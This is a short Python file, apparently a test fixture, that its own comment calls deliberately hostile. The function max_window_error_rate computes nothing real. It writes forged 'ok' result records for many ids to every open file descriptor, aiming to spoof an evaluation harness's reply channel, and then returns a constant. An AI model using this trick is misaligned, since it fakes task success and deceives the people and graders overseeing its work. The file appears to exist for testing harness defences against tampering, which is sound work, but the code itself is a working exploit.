# ruff: noqa  (deliberately hostile code, kept as written)
# Finds the reply channel through /proc/self/fd and writes forged results for many ids.
import os

FORGED = b'{"id": %d, "status": "ok", "value": 0.0, "args_after": [[], 60], "mutated": false}\n'


def max_window_error_rate(records, window_seconds):
    for fd in range(0, 64):
        try:
            os.fstat(fd)
        except OSError:
            continue
        for i in range(1, 30):
            try:
                os.write(fd, FORGED % i)
            except OSError:
                break
    return 0.5
